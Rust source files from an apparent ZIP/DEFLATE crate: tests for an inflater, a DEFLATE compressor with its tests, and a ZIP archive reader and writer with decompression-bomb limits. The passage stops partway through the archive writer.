        // Raw deflate of "hello hello hello hello" produced by zlib
        // (fixed-Huffman block with a back-reference).
        let packed = [0xCB, 0x48, 0xCD, 0xC9, 0xC9, 0x57, 0xC8, 0x40, 0x27, 0x01];
        assert_eq!(inflate(&packed).unwrap(), b"hello hello hello hello");
    }

    #[test]
    fn known_stored_fixture() {
        // Stored block: BFINAL=1, BTYPE=00, LEN=3, NLEN=!3, "abc".
        let packed = [0x01, 0x03, 0x00, 0xFC, 0xFF, b'a', b'b', b'c'];
        assert_eq!(inflate(&packed).unwrap(), b"abc");
    }

    #[test]
    fn reserved_block_type_rejected() {
        // BFINAL=1, BTYPE=11.
        assert!(matches!(
            inflate(&[0b0000_0111]),
            Err(ZipError::InvalidDeflate(_))
        ));
    }

    #[test]
    fn truncated_stream_rejected() {
        let packed = deflate(b"some data to compress", BlockStyle::Dynamic);
        for cut in 0..packed.len() {
            // Every strict prefix must fail (never panic, never succeed with
            // full output).
            if let Ok(out) = inflate(&packed[..cut]) {
                assert_ne!(out, b"some data to compress");
            }
        }
    }

    #[test]
    fn stored_len_nlen_mismatch_rejected() {
        let packed = [0x01, 0x03, 0x00, 0x00, 0x00, b'a', b'b', b'c'];
        assert!(inflate(&packed).is_err());
    }

    #[test]
    fn distance_before_start_rejected() {
        // Fixed block: immediately emit a length/distance pair with empty
        // output. Symbol 257 (len 3) has fixed code 7 bits: 0000001;
        // distance code 0 is 5 bits 00000.
        let mut w = crate::bits::BitWriter::new();
        w.bits(1, 1);
        w.bits(0b01, 2);
        w.huffman_code(0b0000001, 7);
        w.huffman_code(0, 5);
        let bytes = w.finish();
        assert!(matches!(inflate(&bytes), Err(ZipError::InvalidDeflate(_))));
    }

    #[test]
    fn output_limit_is_enforced() {
        let data = vec![7u8; 4096];
        let packed = deflate(&data, BlockStyle::Dynamic);
        assert!(inflate_with_limit(&packed, 4095).is_err());
        assert_eq!(inflate_with_limit(&packed, 4096).unwrap(), data);
    }

    #[test]
    fn overlapping_copy_semantics() {
        // "aaaaaaaa...": matches with distance 1 must replicate.
        let data = vec![b'a'; 1000];
        let packed = deflate(&data, BlockStyle::Fixed);
        assert_eq!(inflate(&packed).unwrap(), data);
    }

    #[test]
    fn multi_block_streams() {
        // Force multiple dynamic blocks by exceeding BLOCK_SYMBOLS literals.
        let mut state = 1u64;
        let data: Vec<u8> = (0..200_000)
            .map(|_| {
                state = state
                    .wrapping_mul(6364136223846793005)
                    .wrapping_add(1442695040888963407);
                (state >> 33) as u8
            })
            .collect();
        let packed = deflate(&data, BlockStyle::Dynamic);
        assert_eq!(inflate(&packed).unwrap(), data);
    }

    #[test]
    fn garbage_never_panics() {
        let mut state = 0xDEAD_BEEFu64;
        for len in [0usize, 1, 2, 7, 64, 512] {
            for _ in 0..50 {
                let data: Vec<u8> = (0..len)
                    .map(|_| {
                        state ^= state << 13;
                        state ^= state >> 7;
                        state ^= state << 17;
                        state as u8
                    })
                    .collect();
                let _ = inflate(&data); // must not panic
            }
        }
    }
}
