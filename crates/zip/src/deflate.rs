//! RFC 1951 DEFLATE compressor.
//!
//! Supports all three block styles. LZ77 matching uses a hash-chain matcher
//! over a 32 KiB window with greedy match selection, which is sufficient for
//! container round-trips and for exercising every decoder path (stored,
//! fixed-Huffman and dynamic-Huffman blocks).

use crate::bits::BitWriter;
use crate::huffman::{build_code_lengths, canonical_codes};

/// Which DEFLATE block style to emit.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Default)]
pub enum BlockStyle {
    /// Uncompressed (BTYPE=00) blocks.
    Stored,
    /// Fixed Huffman tables (BTYPE=01).
    Fixed,
    /// Per-block Huffman tables (BTYPE=10), built from symbol frequencies.
    #[default]
    Dynamic,
}

const WINDOW_SIZE: usize = 32 * 1024;
const MIN_MATCH: usize = 3;
const MAX_MATCH: usize = 258;
const HASH_BITS: usize = 15;
const HASH_SIZE: usize = 1 << HASH_BITS;
/// Symbols per emitted block; keeps dynamic-table overhead amortized.
const BLOCK_SYMBOLS: usize = 64 * 1024;
const END_OF_BLOCK: u16 = 256;

/// (base length, extra bits) for length codes 257..=285 (RFC 1951 §3.2.5).
const LENGTH_TABLE: [(u16, u8); 29] = [
    (3, 0),
    (4, 0),
    (5, 0),
    (6, 0),
    (7, 0),
    (8, 0),
    (9, 0),
    (10, 0),
    (11, 1),
    (13, 1),
    (15, 1),
    (17, 1),
    (19, 2),
    (23, 2),
    (27, 2),
    (31, 2),
    (35, 3),
    (43, 3),
    (51, 3),
    (59, 3),
    (67, 4),
    (83, 4),
    (99, 4),
    (115, 4),
    (131, 5),
    (163, 5),
    (195, 5),
    (227, 5),
    (258, 0),
];

/// (base distance, extra bits) for distance codes 0..=29.
const DIST_TABLE: [(u16, u8); 30] = [
    (1, 0),
    (2, 0),
    (3, 0),
    (4, 0),
    (5, 1),
    (7, 1),
    (9, 2),
    (13, 2),
    (17, 3),
    (25, 3),
    (33, 4),
    (49, 4),
    (65, 5),
    (97, 5),
    (129, 6),
    (193, 6),
    (257, 7),
    (385, 7),
    (513, 8),
    (769, 8),
    (1025, 9),
    (1537, 9),
    (2049, 10),
    (3073, 10),
    (4097, 11),
    (6145, 11),
    (8193, 12),
    (12289, 12),
    (16385, 13),
    (24577, 13),
];

/// Order in which code-length-code lengths are stored in a dynamic header.
pub(crate) const CLC_ORDER: [usize; 19] = [
    16, 17, 18, 0, 8, 7, 9, 6, 10, 5, 11, 4, 12, 3, 13, 2, 14, 1, 15,
];

pub(crate) fn length_table() -> &'static [(u16, u8); 29] {
    &LENGTH_TABLE
}

pub(crate) fn dist_table() -> &'static [(u16, u8); 30] {
    &DIST_TABLE
}

/// One LZ77 output item.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Symbol {
    Literal(u8),
    /// Back-reference: (length 3..=258, distance 1..=32768).
    Match {
        len: u16,
        dist: u16,
    },
}

/// Compresses `data` into a raw DEFLATE stream using the given block style.
///
/// ```
/// use vbadet_zip::{deflate, inflate, BlockStyle};
/// let data = b"abcabcabcabcabc".repeat(10);
/// let packed = deflate(&data, BlockStyle::Dynamic);
/// assert_eq!(inflate(&packed).unwrap(), data);
/// assert!(packed.len() < data.len());
/// ```
pub fn deflate(data: &[u8], style: BlockStyle) -> Vec<u8> {
    let mut writer = BitWriter::new();
    match style {
        BlockStyle::Stored => emit_stored(&mut writer, data),
        BlockStyle::Fixed | BlockStyle::Dynamic => {
            let symbols = lz77(data);
            let mut start = 0;
            while start < symbols.len() || symbols.is_empty() {
                let end = (start + BLOCK_SYMBOLS).min(symbols.len());
                let last = end == symbols.len();
                let block = &symbols[start..end];
                match style {
                    BlockStyle::Fixed => emit_fixed_block(&mut writer, block, last),
                    BlockStyle::Dynamic => emit_dynamic_block(&mut writer, block, last),
                    BlockStyle::Stored => unreachable!(),
                }
                start = end;
                if symbols.is_empty() {
                    break;
                }
            }
        }
    }
    writer.finish()
}

fn emit_stored(writer: &mut BitWriter, data: &[u8]) {
    const MAX_STORED: usize = 0xFFFF;
    let mut chunks = data.chunks(MAX_STORED).peekable();
    if data.is_empty() {
        // A single empty stored block terminates the stream.
        writer.bits(1, 1); // BFINAL
        writer.bits(0b00, 2); // BTYPE=stored
        writer.align_to_byte();
        writer.bytes(&[0, 0, 0xFF, 0xFF]); // LEN=0, NLEN
        return;
    }
    while let Some(chunk) = chunks.next() {
        let last = chunks.peek().is_none();
        writer.bits(last as u32, 1);
        writer.bits(0b00, 2);
        writer.align_to_byte();
        let len = chunk.len() as u16;
        writer.bytes(&len.to_le_bytes());
        writer.bytes(&(!len).to_le_bytes());
        writer.bytes(chunk);
    }
}

/// Maps a match length to (code, extra bits, extra value).
fn length_code(len: u16) -> (u16, u8, u16) {
    debug_assert!((MIN_MATCH as u16..=MAX_MATCH as u16).contains(&len));
    // Linear scan is fine: the table has 29 entries and this is cold relative
    // to matching.
    let mut idx = LENGTH_TABLE.len() - 1;
    for (i, &(base, _)) in LENGTH_TABLE.iter().enumerate() {
        if base > len {
            idx = i - 1;
            break;
        }
        if i == LENGTH_TABLE.len() - 1 {
            idx = i;
        }
    }
    let (base, extra) = LENGTH_TABLE[idx];
    (257 + idx as u16, extra, len - base)
}

/// Maps a match distance to (code, extra bits, extra value).
fn dist_code(dist: u16) -> (u16, u8, u16) {
    debug_assert!(dist >= 1);
    let mut idx = DIST_TABLE.len() - 1;
    for (i, &(base, _)) in DIST_TABLE.iter().enumerate() {
        if base > dist {
            idx = i - 1;
            break;
        }
        if i == DIST_TABLE.len() - 1 {
            idx = i;
        }
    }
    let (base, extra) = DIST_TABLE[idx];
    (idx as u16, extra, dist - base)
}

/// Greedy hash-chain LZ77.
fn lz77(data: &[u8]) -> Vec<Symbol> {
    let mut out = Vec::with_capacity(data.len() / 2 + 16);
    if data.len() < MIN_MATCH {
        out.extend(data.iter().map(|&b| Symbol::Literal(b)));
        return out;
    }
    let hash = |i: usize| -> usize {
        let h = (data[i] as u32) | ((data[i + 1] as u32) << 8) | ((data[i + 2] as u32) << 16);
        (h.wrapping_mul(0x9E37_79B1) >> (32 - HASH_BITS as u32)) as usize & (HASH_SIZE - 1)
    };
    // head[h] = most recent position with hash h; prev[i & mask] = previous
    // position in the chain.
    let mut head = vec![usize::MAX; HASH_SIZE];
    let mut prev = vec![usize::MAX; WINDOW_SIZE];
    const MAX_CHAIN: usize = 128;

    let mut i = 0usize;
    while i < data.len() {
        if i + MIN_MATCH > data.len() {
            out.push(Symbol::Literal(data[i]));
            i += 1;
            continue;
        }
        let h = hash(i);
        let mut candidate = head[h];
        let mut best_len = 0usize;
        let mut best_dist = 0usize;
        let mut chain = 0usize;
        while candidate != usize::MAX && chain < MAX_CHAIN {
            let dist = i - candidate;
            if dist > WINDOW_SIZE {
                break;
            }
            let limit = (data.len() - i).min(MAX_MATCH);
            let mut len = 0usize;
            while len < limit && data[candidate + len] == data[i + len] {
                len += 1;
            }
            if len > best_len {
                best_len = len;
                best_dist = dist;
                if len == MAX_MATCH {
                    break;
                }
            }
            candidate = prev[candidate % WINDOW_SIZE];
            chain += 1;
        }

        if best_len >= MIN_MATCH {
            out.push(Symbol::Match {
                len: best_len as u16,
                dist: best_dist as u16,
            });
            // Insert every covered position into the hash chains.
            let end = (i + best_len).min(data.len().saturating_sub(MIN_MATCH - 1));
            for j in i..end {
                let hj = hash(j);
                prev[j % WINDOW_SIZE] = head[hj];
                head[hj] = j;
            }
            i += best_len;
        } else {
            prev[i % WINDOW_SIZE] = head[h];
            head[h] = i;
            out.push(Symbol::Literal(data[i]));
            i += 1;
        }
    }
    out
}

/// Fixed literal/length code lengths (RFC 1951 §3.2.6).
pub(crate) fn fixed_literal_lengths() -> [u8; 288] {
    let mut lengths = [0u8; 288];
    for (sym, len) in lengths.iter_mut().enumerate() {
        *len = match sym {
            0..=143 => 8,
            144..=255 => 9,
            256..=279 => 7,
            _ => 8,
        };
    }
    lengths
}

pub(crate) fn fixed_distance_lengths() -> [u8; 32] {
    // All 32 codes participate in the fixed tree; 30 and 31 never occur in
    // valid streams but are required for the code to be complete.
    [5u8; 32]
}

fn emit_symbols(
    writer: &mut BitWriter,
    block: &[Symbol],
    lit_codes: &[u32],
    lit_lengths: &[u8],
    dist_codes: &[u32],
    dist_lengths: &[u8],
) {
    for &sym in block {
        match sym {
            Symbol::Literal(b) => {
                writer.huffman_code(lit_codes[b as usize], lit_lengths[b as usize] as u32);
            }
            Symbol::Match { len, dist } => {
                let (lcode, lextra_bits, lextra) = length_code(len);
                writer.huffman_code(
                    lit_codes[lcode as usize],
                    lit_lengths[lcode as usize] as u32,
                );
                writer.bits(lextra as u32, lextra_bits as u32);
                let (dcode, dextra_bits, dextra) = dist_code(dist);
                writer.huffman_code(
                    dist_codes[dcode as usize],
                    dist_lengths[dcode as usize] as u32,
                );
                writer.bits(dextra as u32, dextra_bits as u32);
            }
        }
    }
    writer.huffman_code(
        lit_codes[END_OF_BLOCK as usize],
        lit_lengths[END_OF_BLOCK as usize] as u32,
    );
}

fn emit_fixed_block(writer: &mut BitWriter, block: &[Symbol], last: bool) {
    writer.bits(last as u32, 1);
    writer.bits(0b01, 2);
    let lit_lengths = fixed_literal_lengths();
    let dist_lengths = fixed_distance_lengths();
    let lit_codes = canonical_codes(&lit_lengths);
    let dist_codes = canonical_codes(&dist_lengths);
    emit_symbols(
        writer,
        block,
        &lit_codes,
        &lit_lengths,
        &dist_codes,
        &dist_lengths,
    );
}

fn emit_dynamic_block(writer: &mut BitWriter, block: &[Symbol], last: bool) {
    // Collect symbol frequencies.
    let mut lit_freq = [0u32; 288];
    let mut dist_freq = [0u32; 30];
    for &sym in block {
        match sym {
            Symbol::Literal(b) => lit_freq[b as usize] += 1,
            Symbol::Match { len, dist } => {
                lit_freq[length_code(len).0 as usize] += 1;
                dist_freq[dist_code(dist).0 as usize] += 1;
            }
        }
    }
    lit_freq[END_OF_BLOCK as usize] += 1;

    let lit_lengths = build_code_lengths(&lit_freq, 15);
    let mut dist_lengths = build_code_lengths(&dist_freq, 15);
    // DEFLATE requires HDIST >= 1; if no distances are used, declare one
    // dummy 1-bit distance code (explicitly allowed by the RFC).
    if dist_lengths.iter().all(|&l| l == 0) {
        dist_lengths[0] = 1;
    }

    let hlit = 257.max(
        lit_lengths
            .iter()
            .rposition(|&l| l != 0)
            .map_or(257, |p| p + 1),
    );
    let hdist = 1.max(
        dist_lengths
            .iter()
            .rposition(|&l| l != 0)
            .map_or(1, |p| p + 1),
    );

    // Encode the two length arrays with the code-length code (symbols 0..18,
    // 16=repeat prev, 17=run of zeros 3-10, 18=run of zeros 11-138).
    let mut clc_symbols: Vec<(u8, u8)> = Vec::new(); // (symbol, extra value)
    {
        let all: Vec<u8> = lit_lengths[..hlit]
            .iter()
            .chain(dist_lengths[..hdist].iter())
            .copied()
            .collect();
        let mut i = 0usize;
        while i < all.len() {
            let v = all[i];
            let mut run = 1usize;
            while i + run < all.len() && all[i + run] == v {
                run += 1;
            }
            if v == 0 {
                let mut remaining = run;
                while remaining >= 11 {
                    let take = remaining.min(138);
                    clc_symbols.push((18, (take - 11) as u8));
                    remaining -= take;
                }
                if remaining >= 3 {
                    clc_symbols.push((17, (remaining - 3) as u8));
                    remaining = 0;
                }
                for _ in 0..remaining {
                    clc_symbols.push((0, 0));
                }
            } else {
                clc_symbols.push((v, 0));
                let mut remaining = run - 1;
                while remaining >= 3 {
                    let take = remaining.min(6);
                    clc_symbols.push((16, (take - 3) as u8));
                    remaining -= take;
                }
                for _ in 0..remaining {
                    clc_symbols.push((v, 0));
                }
            }
            i += run;
        }
    }

    let mut clc_freq = [0u32; 19];
    for &(sym, _) in &clc_symbols {
        clc_freq[sym as usize] += 1;
    }
    let clc_lengths = build_code_lengths(&clc_freq, 7);
    let clc_codes = canonical_codes(&clc_lengths);
    let hclen = CLC_ORDER
        .iter()
        .rposition(|&sym| clc_lengths[sym] != 0)
        .map_or(4, |p| (p + 1).max(4));

    writer.bits(last as u32, 1);
    writer.bits(0b10, 2);
    writer.bits((hlit - 257) as u32, 5);
    writer.bits((hdist - 1) as u32, 5);
    writer.bits((hclen - 4) as u32, 4);
    for &sym in CLC_ORDER.iter().take(hclen) {
        writer.bits(clc_lengths[sym] as u32, 3);
    }
    for &(sym, extra) in &clc_symbols {
        writer.huffman_code(clc_codes[sym as usize], clc_lengths[sym as usize] as u32);
        match sym {
            16 => writer.bits(extra as u32, 2),
            17 => writer.bits(extra as u32, 3),
            18 => writer.bits(extra as u32, 7),
            _ => {}
        }
    }

    let lit_codes = canonical_codes(&lit_lengths);
    let dist_codes = canonical_codes(&dist_lengths);
    emit_symbols(
        writer,
        block,
        &lit_codes,
        &lit_lengths,
        &dist_codes,
        &dist_lengths,
    );
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::inflate::inflate;

    fn roundtrip(data: &[u8], style: BlockStyle) {
        let packed = deflate(data, style);
        let unpacked = inflate(&packed).unwrap_or_else(|e| {
            panic!(
                "inflate failed for {style:?} over {} bytes: {e}",
                data.len()
            )
        });
        assert_eq!(unpacked, data, "roundtrip mismatch ({style:?})");
    }

    fn all_styles(data: &[u8]) {
        for style in [BlockStyle::Stored, BlockStyle::Fixed, BlockStyle::Dynamic] {
            roundtrip(data, style);
        }
    }

    #[test]
    fn empty_input() {
        all_styles(b"");
    }

    #[test]
    fn single_byte() {
        all_styles(b"x");
    }

    #[test]
    fn short_text() {
        all_styles(b"hello, world");
    }

    #[test]
    fn highly_repetitive() {
        all_styles(&b"ab".repeat(5000));
        all_styles(&[0u8; 100_000]);
    }

    #[test]
    fn all_byte_values() {
        let data: Vec<u8> = (0..=255u8).cycle().take(4096).collect();
        all_styles(&data);
    }

    #[test]
    fn pseudo_random_data_is_preserved() {
        // xorshift noise: nearly incompressible, stresses literal paths.
        let mut state = 0x1234_5678_9ABC_DEF0u64;
        let data: Vec<u8> = (0..70_000)
            .map(|_| {
                state ^= state << 13;
                state ^= state >> 7;
                state ^= state << 17;
                (state & 0xFF) as u8
            })
            .collect();
        all_styles(&data);
    }

    #[test]
    fn long_matches_compress_well() {
        let data = b"The quick brown fox jumps over the lazy dog. ".repeat(500);
        let packed = deflate(&data, BlockStyle::Dynamic);
        assert!(packed.len() * 10 < data.len(), "expected >10x compression");
        roundtrip(&data, BlockStyle::Dynamic);
    }

    #[test]
    fn stored_block_boundary_sizes() {
        for size in [0xFFFEusize, 0xFFFF, 0x10000, 0x10001] {
            let data: Vec<u8> = (0..size).map(|i| (i % 251) as u8).collect();
            roundtrip(&data, BlockStyle::Stored);
        }
    }

    #[test]
    fn length_code_covers_all_lengths() {
        for len in MIN_MATCH as u16..=MAX_MATCH as u16 {
            let (code, extra_bits, extra) = length_code(len);
            assert!((257..=285).contains(&code), "len {len} -> code {code}");
            let (base, eb) = LENGTH_TABLE[(code - 257) as usize];
            assert_eq!(eb, extra_bits);
            assert_eq!(base + extra, len);
        }
    }

    #[test]
    fn dist_code_covers_all_distances() {
        for dist in 1u16..=32767 {
            let (code, extra_bits, extra) = dist_code(dist);
            assert!((0..=29).contains(&code));
            let (base, eb) = DIST_TABLE[code as usize];
            assert_eq!(eb, extra_bits);
            assert_eq!(base + extra, dist);
        }
    }
}
