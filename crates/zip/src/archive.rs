//! ZIP archive container: enough of APPNOTE.TXT to read and write OOXML
//! documents (local file headers, central directory, end-of-central-directory;
//! methods 0 = stored and 8 = deflate).

use crate::crc32::crc32;
use crate::deflate::{deflate, BlockStyle};
use crate::inflate::inflate_budgeted;
use crate::ZipError;
use vbadet_faultpoint::{faultpoint, Budget};
use vbadet_metrics::{Counter, Stage};

const LOCAL_HEADER_SIG: u32 = 0x0403_4B50;
const CENTRAL_HEADER_SIG: u32 = 0x0201_4B50;
const EOCD_SIG: u32 = 0x0605_4B50;
/// Per-member decompressed size cap (OOXML parts are small).
const MAX_MEMBER: usize = 1 << 28;

/// Resource caps applied while parsing an archive and extracting members.
///
/// Overruns surface as [`ZipError::LimitExceeded`] — a typed outcome, not an
/// allocation. In particular a decompression bomb is rejected from its
/// *declared* size before any output buffer is grown.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ZipLimits {
    /// Maximum number of central-directory entries.
    pub max_entries: usize,
    /// Maximum decompressed size of any single member.
    pub max_member_bytes: usize,
}

impl Default for ZipLimits {
    fn default() -> Self {
        ZipLimits {
            max_entries: 1 << 14,
            max_member_bytes: MAX_MEMBER,
        }
    }
}

/// Compression method for an archive member.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Default)]
pub enum CompressionMethod {
    /// Method 0: no compression.
    Stored,
    /// Method 8: DEFLATE.
    #[default]
    Deflate,
}

impl CompressionMethod {
    fn code(self) -> u16 {
        match self {
            CompressionMethod::Stored => 0,
            CompressionMethod::Deflate => 8,
        }
    }
}

/// Central-directory metadata for one archive member.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ZipEntry {
    /// Member path, as stored (forward-slash separated).
    pub name: String,
    /// Compression method code (0 or 8 are supported for extraction).
    pub method: u16,
    /// CRC-32 of the uncompressed data.
    pub crc32: u32,
    /// Size of the stored (possibly compressed) data.
    pub compressed_size: u32,
    /// Size of the uncompressed data.
    pub uncompressed_size: u32,
    /// Offset of the member's local header from the start of the archive.
    pub local_header_offset: u32,
}

/// A parsed, in-memory ZIP archive.
///
/// Parsing reads the central directory only; member data is decompressed on
/// demand by [`ZipArchive::read_file`].
#[derive(Debug, Clone)]
pub struct ZipArchive<'a> {
    data: &'a [u8],
    entries: Vec<ZipEntry>,
    limits: ZipLimits,
    /// Shared cooperative budget; member extraction charges against it.
    budget: Budget,
}

fn read_u16(data: &[u8], offset: usize) -> Result<u16, ZipError> {
    data.get(offset..offset + 2)
        .map(|b| u16::from_le_bytes([b[0], b[1]]))
        .ok_or(ZipError::Truncated { offset, needed: 2 })
}

fn read_u32(data: &[u8], offset: usize) -> Result<u32, ZipError> {
    data.get(offset..offset + 4)
        .map(|b| u32::from_le_bytes([b[0], b[1], b[2], b[3]]))
        .ok_or(ZipError::Truncated { offset, needed: 4 })
}

impl<'a> ZipArchive<'a> {
    /// Parses the archive's central directory.
    ///
    /// # Errors
    ///
    /// Fails when the end-of-central-directory record cannot be located or a
    /// central directory entry is malformed.
    pub fn parse(data: &'a [u8]) -> Result<Self, ZipError> {
        Self::parse_with_limits(data, ZipLimits::default())
    }

    /// Parses the archive's central directory under explicit resource limits.
    ///
    /// # Errors
    ///
    /// In addition to the malformed-input errors of [`ZipArchive::parse`],
    /// returns [`ZipError::LimitExceeded`] when the central directory
    /// declares more entries than `limits` allows.
    pub fn parse_with_limits(data: &'a [u8], limits: ZipLimits) -> Result<Self, ZipError> {
        Self::parse_budgeted(data, limits, Budget::unlimited())
    }

    /// Like [`ZipArchive::parse_with_limits`] but charges parsing work —
    /// and all later member extraction through the returned archive —
    /// against a cooperative scan [`Budget`].
    ///
    /// # Errors
    ///
    /// As [`ZipArchive::parse_with_limits`], plus
    /// [`ZipError::DeadlineExceeded`] when the budget trips.
    pub fn parse_budgeted(
        data: &'a [u8],
        limits: ZipLimits,
        budget: Budget,
    ) -> Result<Self, ZipError> {
        faultpoint!("zip::parse", Err(ZipError::MissingEndOfCentralDirectory));
        let _t = budget.metrics().time(Stage::ZipParseNs);
        // EOCD is at least 22 bytes and ends with a variable-length comment:
        // scan backwards for the signature.
        if data.len() < 22 {
            return Err(ZipError::MissingEndOfCentralDirectory);
        }
        let mut eocd_offset = None;
        let scan_start = data.len() - 22;
        let scan_floor = scan_start.saturating_sub(0xFFFF);
        for offset in (scan_floor..=scan_start).rev() {
            if offset % 1024 == 0 {
                budget.charge(1)?;
            }
            if read_u32(data, offset)? == EOCD_SIG {
                eocd_offset = Some(offset);
                break;
            }
        }
        let eocd = eocd_offset.ok_or(ZipError::MissingEndOfCentralDirectory)?;
        let entry_count = read_u16(data, eocd + 10)? as usize;
        let cd_offset = read_u32(data, eocd + 16)? as usize;
        if entry_count > limits.max_entries {
            return Err(ZipError::LimitExceeded {
                what: "central directory entries",
                limit: limits.max_entries,
            });
        }

        let mut entries = Vec::with_capacity(entry_count);
        let mut pos = cd_offset;
        for _ in 0..entry_count {
            budget.charge(1)?;
            let sig = read_u32(data, pos)?;
            if sig != CENTRAL_HEADER_SIG {
                return Err(ZipError::BadSignature {
                    offset: pos,
                    expected: CENTRAL_HEADER_SIG,
                    found: sig,
                });
            }
            let method = read_u16(data, pos + 10)?;
            let crc = read_u32(data, pos + 16)?;
            let compressed_size = read_u32(data, pos + 20)?;
            let uncompressed_size = read_u32(data, pos + 24)?;
            let name_len = read_u16(data, pos + 28)? as usize;
            let extra_len = read_u16(data, pos + 30)? as usize;
            let comment_len = read_u16(data, pos + 32)? as usize;
            let local_header_offset = read_u32(data, pos + 42)?;
            let name_bytes =
                data.get(pos + 46..pos + 46 + name_len)
                    .ok_or(ZipError::Truncated {
                        offset: pos + 46,
                        needed: name_len,
                    })?;
            let name = String::from_utf8_lossy(name_bytes).into_owned();
            entries.push(ZipEntry {
                name,
                method,
                crc32: crc,
                compressed_size,
                uncompressed_size,
                local_header_offset,
            });
            pos += 46 + name_len + extra_len + comment_len;
        }
        budget.metrics().count(Counter::ZipParses, 1);
        budget
            .metrics()
            .count(Counter::ZipEntries, entries.len() as u64);
        Ok(ZipArchive {
            data,
            entries,
            limits,
            budget,
        })
    }

    /// The central-directory entries, in directory order.
    pub fn entries(&self) -> &[ZipEntry] {
        &self.entries
    }

    /// Returns the names of all members.
    pub fn names(&self) -> impl Iterator<Item = &str> {
        self.entries.iter().map(|e| e.name.as_str())
    }

    /// Returns whether the archive contains a member named `name`.
    pub fn contains(&self, name: &str) -> bool {
        self.entries.iter().any(|e| e.name == name)
    }

    /// Extracts and verifies one member by name.
    ///
    /// # Errors
    ///
    /// Fails when the member is missing, uses an unsupported compression
    /// method, is malformed, or its CRC-32 does not match.
    pub fn read_file(&self, name: &str) -> Result<Vec<u8>, ZipError> {
        let entry = self
            .entries
            .iter()
            .find(|e| e.name == name)
            .ok_or_else(|| ZipError::MemberNotFound(name.to_string()))?;
        self.read_entry(entry)
    }

    /// Extracts and verifies the member described by `entry`.
    pub fn read_entry(&self, entry: &ZipEntry) -> Result<Vec<u8>, ZipError> {
        // Reject from the declared sizes before touching any data: a bomb
        // must trip the limit without the output buffer ever growing.
        let cap = self.limits.max_member_bytes;
        if entry.uncompressed_size as usize > cap || entry.compressed_size as usize > cap {
            return Err(ZipError::LimitExceeded {
                what: "member size",
                limit: cap,
            });
        }
        let pos = entry.local_header_offset as usize;
        let sig = read_u32(self.data, pos)?;
        if sig != LOCAL_HEADER_SIG {
            return Err(ZipError::BadSignature {
                offset: pos,
                expected: LOCAL_HEADER_SIG,
                found: sig,
            });
        }
        // Name/extra lengths in the local header may differ from the central
        // directory; trust the local ones for locating data.
        let name_len = read_u16(self.data, pos + 26)? as usize;
        let extra_len = read_u16(self.data, pos + 28)? as usize;
        let data_start = pos + 30 + name_len + extra_len;
        let raw = self
            .data
            .get(data_start..data_start + entry.compressed_size as usize)
            .ok_or(ZipError::Truncated {
                offset: data_start,
                needed: entry.compressed_size as usize,
            })?;

        let metrics = self.budget.metrics();
        let out = match entry.method {
            0 => {
                self.budget.charge((raw.len() / 1024) as u64 + 1)?;
                metrics.count(Counter::ZipBytesStored, raw.len() as u64);
                raw.to_vec()
            }
            8 => {
                let _t = metrics.time(Stage::ZipInflateNs);
                let out = inflate_budgeted(raw, cap, &self.budget)?;
                metrics.count(Counter::ZipBytesInflated, out.len() as u64);
                out
            }
            m => return Err(ZipError::UnsupportedMethod(m)),
        };
        if out.len() != entry.uncompressed_size as usize {
            return Err(ZipError::SizeMismatch {
                name: entry.name.clone(),
                expected: entry.uncompressed_size as usize,
                found: out.len(),
            });
        }
        let found = crc32(&out);
        if found != entry.crc32 {
            return Err(ZipError::CrcMismatch {
                name: entry.name.clone(),
                expected: entry.crc32,
                found,
            });
        }
        metrics.count(Counter::ZipMembersRead, 1);
        Ok(out)
    }
}

/// Incrementally builds a ZIP archive in memory.
///
/// ```
/// use vbadet_zip::{ZipWriter, ZipArchive, CompressionMethod};
/// # fn main() -> Result<(), vbadet_zip::ZipError> {
/// let mut w = ZipWriter::new();
/// w.add_file("a.txt", b"alpha", CompressionMethod::Stored)?;
/// w.add_file("dir/b.bin", &[0u8; 128], CompressionMethod::Deflate)?;
/// let bytes = w.finish();
/// assert_eq!(ZipArchive::parse(&bytes)?.entries().len(), 2);
/// # Ok(())
/// # }
/// ```
#[derive(Debug, Default)]
pub struct ZipWriter {
    out: Vec<u8>,
    entries: Vec<ZipEntry>,
}

impl ZipWriter {
    /// Creates an empty writer.
    pub fn new() -> Self {
        Self::default()
    }

    /// Appends one member. Deflate falls back to stored when compression
    /// would grow the data.
    ///
    /// # Errors
    ///
    /// Fails if `data` exceeds the 32-bit ZIP size fields.
    pub fn add_file(
        &mut self,
        name: &str,
        data: &[u8],
        method: CompressionMethod,
    ) -> Result<&mut Self, ZipError> {
        if data.len() > u32::MAX as usize {
            return Err(ZipError::SizeMismatch {
                name: name.to_string(),
                expected: u32::MAX as usize,
                found: data.len(),
            });
        }
        let (stored, actual_method) = match method {
            CompressionMethod::Stored => (data.to_vec(), CompressionMethod::Stored),
            CompressionMethod::Deflate => {
                let packed = deflate(data, BlockStyle::Dynamic);
                if packed.len() < data.len() {
                    (packed, CompressionMethod::Deflate)
                } else {
                    (data.to_vec(), CompressionMethod::Stored)
                }
            }
        };
        let crc = crc32(data);
        let offset = self.out.len() as u32;
        let name_bytes = name.as_bytes();

        self.out.extend_from_slice(&LOCAL_HEADER_SIG.to_le_bytes());
        self.out.extend_from_slice(&20u16.to_le_bytes()); // version needed
        self.out.extend_from_slice(&0u16.to_le_bytes()); // flags
        self.out
            .extend_from_slice(&actual_method.code().to_le_bytes());
        self.out.extend_from_slice(&0u16.to_le_bytes()); // mod time
        self.out.extend_from_slice(&0x21u16.to_le_bytes()); // mod date (1980-01-01)
        self.out.extend_from_slice(&crc.to_le_bytes());
        self.out
            .extend_from_slice(&(stored.len() as u32).to_le_bytes());
        self.out
            .extend_from_slice(&(data.len() as u32).to_le_bytes());
        self.out
            .extend_from_slice(&(name_bytes.len() as u16).to_le_bytes());
        self.out.extend_from_slice(&0u16.to_le_bytes()); // extra len
        self.out.extend_from_slice(name_bytes);
        self.out.extend_from_slice(&stored);

        self.entries.push(ZipEntry {
            name: name.to_string(),
            method: actual_method.code(),
            crc32: crc,
            compressed_size: stored.len() as u32,
            uncompressed_size: data.len() as u32,
            local_header_offset: offset,
        });
        Ok(self)
    }

    /// Writes the central directory and end record, returning the archive.
    pub fn finish(mut self) -> Vec<u8> {
        let cd_offset = self.out.len() as u32;
        for entry in &self.entries {
